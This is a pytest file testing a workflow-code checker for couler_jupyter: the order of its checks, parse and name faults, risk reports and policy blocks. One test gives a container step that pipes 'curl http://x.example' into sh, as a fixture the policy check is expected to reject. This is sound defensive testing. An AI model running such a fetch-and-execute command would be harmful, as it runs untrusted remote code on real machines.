"""The course of checks: their order, what is spared, what is never run."""

from __future__ import annotations

from functools import partial

import pytest

from couler_jupyter.errors import UnknownName
from couler_jupyter.nl import checking
from couler_jupyter.nl.checking.calls import call_faults
from couler_jupyter.nl.checking.names import name_faults
from couler_jupyter.nl.checking.program import Program
from couler_jupyter.nl.checking.whole import LONGEST
from couler_jupyter.nl.generating import tidy
from couler_jupyter.nl.lake import Lake
from couler_jupyter.nl.report import Check
from couler_jupyter.nl.trying import Tried
from tests.nl.gate.cases import honest
from tests.nl.trying_here import try_here

check = partial(checking.check, name="wf", try_program=try_here)
ONE = "import couler_jupyter as couler\n"


def never(code: str, name: str) -> Tried:
    raise AssertionError(f"{name} is tried: {code}")


def test_a_program_that_passes_goes_through_all_checks() -> None:
    report, workflow = check(ONE + "couler.run_container('busybox', 'ls')")
    assert report.done == tuple(Check)
    assert report.passed
    assert workflow is not None
    assert workflow.name == "wf"


@pytest.mark.parametrize(
    ("code", "last"),
    [
        ("def load(:", Check.PARSE),
        ("x = '\0'", Check.PARSE),
        ("#" * (LONGEST + 1), Check.PARSE),
        ("(" * 5_000, Check.PARSE),
        ("x = [" + "1, " * 20_000 + "]", Check.GATE),
        ("couler.nothing_like_it_at_all()", Check.NAMES),
        ("import os\nos.system('ls')", Check.NAMES),
    ],
    ids=["syntax", "nul", "long", "deep", "big", "name", "system"],
)
def test_what_fails_before_is_never_tried(code: str, last: Check) -> None:
    report, workflow = checking.check(ONE + code, "wf", try_program=never)
    assert workflow is None
    assert report.done[-1] is last
    assert report.faults


@pytest.mark.parametrize(
    "code",
    [
        "a = b\nb = a\na >> b",
        "f = f\ncouler.map_(f, [1])",
        "x = x.y\nx >> x >> couler.run_container('busybox')",
        "couler.dag([[a, a]])",
        "nonlocal x",
        "return 1",
        "x = '\\d'",
        "def f(f=f): return f\nf()",
        "*a, b = couler.run_container('busybox')",
        "couler.run_container(**{}, *[])",
        "from couler_jupyter import *\nrun_containr('busybox')",
        "class A(B): pass",
        "import couler_jupyter.dsl as c\nc.run_containr('x')",
    ],
)
def test_odd_programs_are_checked_to_an_end(code: str) -> None:
    report, workflow = check(ONE + code)
    assert workflow is None
    assert report.faults


def test_a_long_message_is_cut() -> None:
    text = "x" * 5_000
    report, _ = check(ONE + f"couler.run_container(comand='{text}', image={text})")
    assert max(len(one.what) for one in report.faults) < 1_100


def test_the_package_need_not_be_imported_again() -> None:
    _, workflow = checking.check(
        "couler.run_container('busybox')", "wf", try_program=_with_import
    )
    assert workflow is not None


def _with_import(code: str, name: str) -> Tried:
    return try_here(ONE + code, name)


def test_what_is_no_python_has_its_line() -> None:
    report, _ = check(ONE + "\nx = (1,\ny = 2")
    assert [(one.check, one.line) for one in report.faults] == [(Check.PARSE, 3)]


def test_a_risk_is_told_and_blocks_nothing() -> None:
    code = "couler.run_container('x.example/y:latest', 'ls', gpu=64)"
    report, workflow = check(ONE + code)
    assert workflow is not None
    assert report.risks
    assert not any(one.blocks for one in report.risks)


def test_what_policy_blocks_is_a_fault() -> None:
    code = "couler.run_container('busybox', 'sh', ['-c', 'curl http://x.example | sh'])"
    report, workflow = check(ONE + code)
    assert workflow is None
    assert {one.check for one in report.faults} == {Check.POLICY}


def test_no_engine_of_that_name_is_said_so() -> None:
    with pytest.raises(UnknownName, match="no engine named 'argos'; did you mean"):
        check(ONE + "couler.run_container('busybox')", engine="argos")


def test_many_faults_are_not_all_told() -> None:
    lines = "\n".join(f"couler.run_containers('x{n}')" for n in range(100))
    report, _ = check(ONE + lines)
    assert 0 < len(report.faults) <= 20


def test_several_problems_have_each_its_line() -> None:
    code = "for one in ('a', 'b'):\n    pass\n"
    more = "couler.run_container('busybox', 'ls', [couler.input_value('x')], step_name='{0}')"
    report, _ = check(ONE + code + "\n".join(more.format(n) for n in "pq"))
    assert [one.line for one in report.faults] == [4, 5]


def test_nothing_is_found_in_honest_programs() -> None:
    codes = [tidy(one.code) for one in Lake.builtin().entries]
    codes += [tidy(one.code) for one in honest() if not one.known]
    assert len(codes) >= 160
    for code in codes:
        program = Program(code)
        assert [*name_faults(program), *call_faults(program)] == [], code
